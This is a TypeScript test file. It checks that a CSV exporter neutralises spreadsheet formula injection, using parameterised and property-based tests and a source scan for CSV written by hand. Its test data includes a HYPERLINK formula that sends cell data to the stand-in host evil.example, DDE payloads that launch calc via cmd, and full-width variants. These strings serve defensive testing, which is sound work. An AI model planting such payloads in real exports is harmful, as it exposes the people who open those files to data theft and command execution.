import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { tableOf } from "../../src/services/batch.ts";
import { csvLine } from "../../src/services/csv.ts";
import { hit, screening } from "../support/records.ts";

/** What a spreadsheet begins to compute at the start of a cell, also behind blanks and in full width. */
const FORMULA = /^\s*[=+\-@＝＋－＠\t\r]/;
const NUMBER = /^[+-]?\d+(?:\.\d+)?$/;
const cellsOf = (line: string): readonly string[] => (parse(line, { relax_column_count: true }) as string[][])[0] ?? [];

const FORMULAS = [
  '=HYPERLINK("http://evil.example?x="&A1,"open")',
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  " =1+1",
  "\u00a0=1",
  "＝1+1",
  "＋1",
  "－1+cmd|' /C calc'!A0",
  "＠SUM(1)",
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+49 170 =1",
  "-",
];

describe("a cell of an exported CSV", () => {
  it.each(FORMULAS.map((text) => [JSON.stringify(text), text]))("is no formula: %s", (_shown, text) => {
    const [cell = ""] = cellsOf(csvLine([text, "next"]));
    expect(cell).not.toMatch(FORMULA);
    expect(cell.replace(/^'/, "")).toBe(text);
  });
  it.each([
    "Kim = Lee",
    "0.93",
    "-1.5",
    "+42",
    "a-b",
    "x@example.org",
    "'quoted'",
    "",
    "1=1",
    "2025-07-08",
    "ﷺ",
  ])("is left as it is: %s", (text) => {
    expect(cellsOf(csvLine([text, "next"]))[0]).toBe(text);
  });
  it("never begins a formula and never breaks out of its cell, whatever stands in it", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "binary", maxLength: 40 }), { minLength: 2, maxLength: 6 }), (cells) => {
        const back = cellsOf(csvLine(cells));
        expect(back).toHaveLength(cells.length);
        for (const [i, cell] of back.entries()) {
          if (!NUMBER.test(cell)) expect(cell).not.toMatch(FORMULA);
          expect([cells[i], `'${cells[i]}`]).toContain(cell);
        }
      }),
    );
  });
});

describe("the results of a batch", () => {
  it.each(FORMULAS.map((text) => [JSON.stringify(text), text]))("hold no formula: %s", (_shown, text) => {
    const line = { id: text, ...screening({ hits: [hit({ name: text, reasons: [text] })] }) };
    const { csv } = tableOf([{ id: text, name: text }], [line]);
    for (const row of parse(csv) as string[][])
      for (const cell of row) if (!NUMBER.test(cell)) expect(cell).not.toMatch(FORMULA);
  });
});

describe("every file that writes a CSV", () => {
  const sources = readdirSync(join(import.meta.dirname, "../../src"), { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && entry.name.endsWith(".ts"))
    .map((entry) => join(entry.parentPath, entry.name));
  /** Joining cells with a comma and lines with a line break is what writing a CSV by hand looks like. */
  const byHand = /\.join\(","\)\s*\)?\s*\}?\\n|join\(","\)\s*\}\\n/;
  it("does it through the one guarded line", () => {
    const offenders = sources.filter((path) => byHand.test(readFileSync(path, "utf8")));
    expect(offenders).toEqual([]);
  });
  it("is seen by this test when it does not", () => {
    expect(byHand.test('`${cells.join(",")}\\n`')).toBe(true);
  });
});
